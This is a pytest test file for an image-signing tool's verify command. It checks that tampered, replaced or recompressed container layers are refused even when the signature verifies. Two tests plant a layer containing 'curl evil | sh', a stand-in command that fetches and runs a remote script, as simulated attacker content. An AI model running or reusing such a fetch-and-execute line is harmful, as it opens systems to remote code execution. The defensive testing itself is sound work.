"""`pysandbox verify` checks content, not only the signature: after the signature over the
manifest digest verifies, every blob under the manifest is read and must match its digest and
size, and each layer its diff_id; a mismatch is refused (exit 1) naming the layer and what was
expected. `--signature-only` skips that pass, and the verdict says so."""

from __future__ import annotations

import gzip
import hashlib
import json
import tarfile
from pathlib import Path

import pytest
from typer.testing import CliRunner

from pysbx.cli.signing_cmd import app
from pysbx.images import open_image
from pysbx.images.digest import Digest
from pysbx.images.writer import write_tar
from pysbx.policies.model import SigningPolicy
from pysbx.signing.verify import CONTENT_NOT_CHECKED, content_not_checked, verify_image
from tests.imagekit import LAYOUTS, T, image_of, json_documents, make_tar, rehash, write_image
from tests.signing.conftest import write_key_pairs

runner = CliRunner()
TWO_LAYERS = ([T("etc/app.conf", data=b"port = 80\n" * 300)], [T("bin/app", data=bytes(range(256)) * 40)])


def signed_image(tmp_path: Path, layout: str, compression: str = "gzip") -> tuple[str, Path]:
    """A two-layer image written in `layout`, signed with a fresh key (a referrer in an OCI
    layout, else a sidecar bundle); returns IMAGE and the public key."""
    key = write_key_pairs(tmp_path, "k")["k"]
    image = write_image(image_of(*TWO_LAYERS, compression=compression), tmp_path, layout)
    signed = runner.invoke(app, ["sign", image, "--key", str(key.with_suffix(".key"))])
    assert signed.exit_code == 0, signed.output
    return image, key.with_suffix(".pub")


def verify(image: str, public_key: Path, *extra: str) -> tuple[int, str, str]:
    result = runner.invoke(app, ["verify", image, "--key", str(public_key), *extra])
    return result.exit_code, result.stdout, result.stderr


# -- the image as files, changed in place (the signature and bundle are left alone) --------------
def read_files(image: str) -> dict[str, bytes]:
    path = Path(image)
    if path.is_dir():
        return {str(p.relative_to(path)): p.read_bytes() for p in sorted(path.rglob("*")) if p.is_file()}
    with tarfile.open(path) as archive:
        return {m.name: archive.extractfile(m).read() for m in archive.getmembers() if m.isfile()}  # type: ignore[union-attr]


def write_files(image: str, files: dict[str, bytes]) -> None:
    path = Path(image)
    if path.is_dir():
        for old in [p for p in path.rglob("*") if p.is_file()]:
            old.unlink()
        for name, data in files.items():
            (path / name).parent.mkdir(parents=True, exist_ok=True)
            (path / name).write_bytes(data)
    else:
        write_tar(path, files.items())


def layer_file(image: str, index: int) -> str:
    return open_image(image).layers[index].location


def flip_byte_in_layer(image: str, index: int) -> Digest:
    """Flip one bit in the middle of layer `index`'s blob; returns the layer's digest."""
    opened = open_image(image)
    files = read_files(image)
    blob = bytearray(files[opened.layers[index].location])
    blob[len(blob) // 2] ^= 0x01
    files[opened.layers[index].location] = bytes(blob)
    write_files(image, files)
    return opened.layers[index].digest


# -- (a) an untouched signed image verifies with its content checked -------------------------------
@pytest.mark.parametrize("layout", LAYOUTS)
def test_a_signed_image_verifies_signature_and_content_in_every_layout(
    tmp_path: Path, layout: str, offline: None
) -> None:
    image, public_key = signed_image(tmp_path, layout)
    opened = open_image(image)
    files = read_files(image)
    stored = json.loads(opened.manifest_bytes)["config"]["size"] + sum(len(files[x.location]) for x in opened.layers)
    code, out, _ = verify(image, public_key, "--format", "json")
    verdict = json.loads(out)
    assert code == 0 and verdict["verified"]
    assert verdict["content_checked"] is True
    assert verdict["content_blobs"] == 3
    assert verdict["content_bytes"] == stored
    assert any(item.startswith("content digests: the config and 2 layer blobs match") for item in verdict["checked"])
    assert not any(item.startswith("content digests") for item in verdict["not_checked"])


def test_text_output_says_signature_and_content_with_the_counts(tmp_path: Path) -> None:
    image, public_key = signed_image(tmp_path, "oci-layout")
    code, out, _ = verify(image, public_key)
    first = out.splitlines()[0]
    assert code == 0
    assert first.startswith("verified signature and content (3 blobs, ") and " bytes): sha256:" in first


@pytest.mark.parametrize("compression", ["gzip", "zstd", "none"])
def test_every_layer_compression_is_checked_against_digest_and_diff_id(tmp_path: Path, compression: str) -> None:
    image, public_key = signed_image(tmp_path, "oci-archive", compression)
    verdict = verify_image(open_image(image), trusting(public_key), check_content=True)
    assert verdict.verified and verdict.content_checked and verdict.content_blobs == 3


# -- (b) one flipped byte in a layer blob: refused, unless --signature-only ------------------------
# docker-legacy layers are written uncompressed here, as `docker save` before Docker 25 wrote them:
# a compressed legacy layer is decompressed (and its diff_id checked) already when the image is
# opened, see test_a_flipped_byte_in_a_compressed_legacy_layer_fails_already_at_open.
TAMPERED = [("oci-layout", "gzip"), ("oci-archive", "zstd"), ("docker-25", "gzip"), ("docker-legacy", "none")]


@pytest.mark.parametrize(("layout", "compression"), TAMPERED)
def test_a_flipped_byte_in_a_layer_blob_is_refused_naming_the_layer(
    tmp_path: Path, layout: str, compression: str, offline: None
) -> None:
    image, public_key = signed_image(tmp_path, layout, compression)
    digest = flip_byte_in_layer(image, 1)
    code, out, err = verify(image, public_key)
    assert code == 1, out + err
    assert out == ""
    assert err.count("\n") == 1
    assert err.startswith("refused sha256:")
    assert "the signature verifies, but the content does not match it" in err
    assert f"layer 2 ({digest.short()})" in err
    assert f"expected {digest}" in err


@pytest.mark.parametrize(("layout", "compression"), TAMPERED)
def test_signature_only_still_verifies_the_tampered_image_and_says_content_was_not_checked(
    tmp_path: Path, layout: str, compression: str
) -> None:
    image, public_key = signed_image(tmp_path, layout, compression)
    flip_byte_in_layer(image, 1)
    code, out, _ = verify(image, public_key, "--signature-only")
    assert code == 0
    assert out.splitlines()[0].startswith("verified signature only (content not checked: --signature-only): sha256:")
    assert f"  not checked: {CONTENT_NOT_CHECKED} (--signature-only)" in out.splitlines()
    code, out, _ = verify(image, public_key, "--signature-only", "--format", "json")
    verdict = json.loads(out)
    assert code == 0 and verdict["verified"]
    assert verdict["content_checked"] is False
    assert verdict["content_blobs"] is None and verdict["content_bytes"] is None
    assert f"{CONTENT_NOT_CHECKED} (--signature-only)" in verdict["not_checked"]


def test_the_json_refusal_names_the_content_kind_and_keeps_the_signer(tmp_path: Path) -> None:
    image, public_key = signed_image(tmp_path, "oci-layout")
    digest = flip_byte_in_layer(image, 0)
    code, out, _ = verify(image, public_key, "--format", "json")
    verdict = json.loads(out)
    assert code == 1
    assert verdict["verified"] is False and verdict["refusal"] == "content"
    assert verdict["content_checked"] is True and verdict["content_blobs"] is None
    assert verdict["signer"].startswith("key sha256:")
    assert f"layer 1 ({digest.short()})" in verdict["reason"] and f"expected {digest}" in verdict["reason"]


def test_a_flipped_byte_in_a_compressed_legacy_layer_fails_already_at_open(tmp_path: Path) -> None:
    """A legacy docker archive has no digest of a compressed layer, so opening it measures the
    layer by decompressing it, diff_id checked: the damage is found before any signature is
    looked at, and reported as an image that cannot be read (exit 2), still naming the layer."""
    image, public_key = signed_image(tmp_path, "docker-legacy", "gzip")
    diff_id = str(open_image(image).layers[1].diff_id)
    files = read_files(image)
    name = layer_file(image, 1)
    files[name] = gzip.compress(make_tar([T("bin/app", data=b"not what was signed")]), mtime=0)
    write_files(image, files)
    code, _, err = verify(image, public_key)
    assert code == 2
    assert "layer 2" in err and f"expected {diff_id}" in err


# -- (c) a layer replaced by another valid one --------------------------------------------------------
def test_a_layer_replaced_by_another_valid_gzip_under_the_same_name_is_refused(tmp_path: Path) -> None:
    image, public_key = signed_image(tmp_path, "docker-25")
    digest = open_image(image).layers[1].digest
    files = read_files(image)
    files[layer_file(image, 1)] = gzip.compress(make_tar([T("bin/app", data=b"#!/bin/sh\ncurl evil | sh\n")]))
    write_files(image, files)
    code, _, err = verify(image, public_key)
    assert code == 1
    # Another size than the manifest declares: refused for that, before its digest is complete.
    assert f"layer 2 ({digest.short()}): blob {digest} has " in err and "bytes, its descriptor declares" in err


def test_the_same_layer_recompressed_is_refused_though_its_diff_id_still_matches(tmp_path: Path) -> None:
    """What was signed is the compressed blob (the manifest names it), not only its tar."""
    image, public_key = signed_image(tmp_path, "oci-layout")
    opened = open_image(image)
    files = read_files(image)
    location = opened.layers[0].location
    files[location] = gzip.compress(gzip.decompress(files[location]), compresslevel=1, mtime=0)
    write_files(image, files)
    code, _, err = verify(image, public_key)
    assert code == 1
    assert f"layer 1 ({opened.layers[0].digest.short()}): blob {opened.layers[0].digest} " in err


def test_a_replaced_layer_with_every_digest_patched_up_the_chain_is_a_replay(tmp_path: Path) -> None:
    """With the new layer's digest patched into the manifest (and the config's diff_id, and
    the index), every blob matches again, but the manifest is no longer the one signed."""
    image, public_key = signed_image(tmp_path, "docker-25")
    signed_digest = str(open_image(image).manifest_digest)
    files = read_files(image)
    new_tar = make_tar([T("bin/app", data=b"#!/bin/sh\ncurl evil | sh\n")])
    files[layer_file(image, 1)] = gzip.compress(new_tar, mtime=0)
    config = next(n for n in json_documents(files) if b"diff_ids" in files[n])
    old_diff_id = open_image(image).layers[1].diff_id.hex.encode()
    files[config] = files[config].replace(old_diff_id, hashlib.sha256(new_tar).hexdigest().encode())
    rehash(files)
    write_files(image, files)
    patched = open_image(image)
    assert str(patched.manifest_digest) != signed_digest
    code, _, err = verify(image, public_key)
    assert code == 1
    assert f"the signature is for {signed_digest}, not this image's manifest {patched.manifest_digest}" in err


# -- the diff_id check: a blob that matches the manifest, a tar that does not match the config ------
def test_a_layer_whose_tar_does_not_match_the_configs_diff_id_is_refused(tmp_path: Path) -> None:
    """Signed as it is (so the manifest and every compressed digest agree): only the diff_id
    check can tell that the layer's tar is not the one the config, and so the signer, names."""
    image = write_image(image_of(*TWO_LAYERS), tmp_path, "oci-layout")
    files = read_files(image)
    config = next(n for n in json_documents(files) if b"diff_ids" in files[n])
    document = json.loads(files[config])
    wrong = "sha256:" + "0" * 64
    document["rootfs"]["diff_ids"][1] = wrong
    files[config] = json.dumps(document).encode()
    rehash(files)
    write_files(image, files)
    key = write_key_pairs(tmp_path, "k")["k"]
    assert runner.invoke(app, ["sign", image, "--key", str(key.with_suffix(".key"))]).exit_code == 0
    digest = open_image(image).layers[1].digest
    code, _, err = verify(image, key.with_suffix(".pub"))
    assert code == 1
    assert f"layer 2 ({digest.short()}) (diff_id)" in err and f"expected {wrong}" in err
    assert verify(image, key.with_suffix(".pub"), "--signature-only")[0] == 0


# -- the library: the content pass is the caller's choice, and the verdict says which ---------------
def trusting(public_key: Path) -> SigningPolicy:
    return SigningPolicy(required=True, keys=(str(public_key),))


def test_verify_image_checks_content_only_when_asked_and_a_skip_can_be_recorded(tmp_path: Path) -> None:
    """run and audit read (and so check) every blob themselves: for them the signature is enough."""
    image, public_key = signed_image(tmp_path, "oci-layout")
    flip_byte_in_layer(image, 0)
    verdict = verify_image(open_image(image), trusting(public_key))
    assert verdict.verified and not verdict.content_checked
    assert f"{CONTENT_NOT_CHECKED} (skipped)" in content_not_checked(verdict, "skipped").not_checked
    refused = verify_image(open_image(image), trusting(public_key), check_content=True)
    assert not refused.verified and refused.refusal == "content"
    assert content_not_checked(refused, "skipped") == refused


def test_a_refused_signature_is_not_followed_by_a_content_pass(tmp_path: Path) -> None:
    image, _ = signed_image(tmp_path, "oci-layout")
    stranger = write_key_pairs(tmp_path, "stranger")["stranger"]
    flip_byte_in_layer(image, 0)
    verdict = verify_image(open_image(image), trusting(stranger.with_suffix(".pub")), check_content=True)
    assert verdict.refusal == "untrusted-key" and not verdict.content_checked
